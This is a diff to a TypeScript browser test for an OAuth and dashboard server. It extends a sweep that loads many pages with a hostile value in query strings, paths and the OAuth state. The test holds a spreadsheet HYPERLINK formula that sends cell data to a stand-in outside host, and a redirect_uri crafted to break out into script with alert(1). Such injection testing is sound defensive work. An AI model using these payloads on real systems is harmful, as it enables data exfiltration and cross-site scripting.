@@ -1,7 +1,7 @@
 import { type Browser, inChromium } from '@gatehouse/testing/chromium';
 import { jsonRequest } from '@gatehouse/testing/json-request';
 import t from 'tap';
-import { startServer } from './clients/set-up.ts';
+import { signInAndAllow, startServer } from './clients/set-up.ts';
 
 type Made = { id: string; client_id: string };
 
@@ -11,7 +11,7 @@ const FORMULA = `=HYPERLINK("https://elsewhere.example/?"&A1)`;
 
 await inChromium(t, async (browser) => {
   t.setTimeout(240_000);
-  const { issuer, demo } = await startServer(t);
+  const { issuer, demo, browser: formBrowser } = await startServer(t);
 
   const ask = <T = Made>(method: string, path: string, token?: string, body?: unknown, agent = 'test') =>
     jsonRequest<T>(method, issuer + path, { token, body, headers: { 'user-agent': agent } });
@@ -67,6 +67,12 @@ await inChromium(t, async (browser) => {
         .concat(['queue', 'category', 'format', 'owner', 'range', 'done', 'cursor', 'request'])
         .map((name): [string, string] => [name, HOSTILE]),
     ).toString();
+    const authorize = `/oauth2/authorize?${new URLSearchParams({
+      ...{ response_type: 'code', client_id: app.client_id, scope: 'openid read:data', state: HOSTILE },
+      redirect_uri: `https://web.example.org/callback');alert(1);('`,
+    })}`;
+    await signInAndAllow(formBrowser(), authorize, demo.user);
+    const ofUser = ['', '/password-reset', `/applications/${app.client_id}/end`];
     const lists = ['', '/applications', '/items', '/products', '/orders', '/users', '/audit', '/reports']
       .concat(['/notifications', '/dead-letters', '/queues', '/signing-keys', '/applications/new'])
       .concat(['/reports/new', '/notifications/new', '/search', '/try/list_v2_products', '/preferences'])
@@ -77,21 +83,18 @@ await inChromium(t, async (browser) => {
       ...lists.map((path) => `${path}?${query}`),
       ...ofApplication.map((path) => `/applications/${app.client_id}${path}`),
       ...[`/items/${item.id}`, `/items/${stored.id}`, `/products/${product.id}`, `/orders/${order.id}`],
-      ...[`/users/${demo.user.user_id}`, `/notifications/${notification.id}`, `/reports/${report.id}`],
+      ...ofUser.map((path) => `/users/${demo.user.user_id}${path}`),
+      ...[`/notifications/${notification.id}`, `/reports/${report.id}`],
       `/reports/new?type=orders&${new URLSearchParams({ 'filters.user_id': HOSTILE, from: HOSTILE })}`,
       `/nothing/${encodeURIComponent(HOSTILE)}`,
       `/items/${encodeURIComponent(HOSTILE)}`,
     ].map((path) => `/dashboard${path}`);
-    const authorize = new URLSearchParams({
-      ...{ response_type: 'code', client_id: app.client_id, scope: 'openid read:data', state: HOSTILE },
-      redirect_uri: `https://web.example.org/callback');alert(1);('`,
-    });
     const ofAccount = ['', '/applications', '/sessions', '/profile', '/password'].map(
       (path) => `/account${path}`,
     );
     return {
       admin: pages,
-      user: [...pages, ...ofAccount, `/oauth2/authorize?${authorize}`, `/dashboard/sign-in?to=${query}`],
+      user: [...pages, ...ofAccount, authorize, `/dashboard/sign-in?to=${query}`],
     };
   }
 
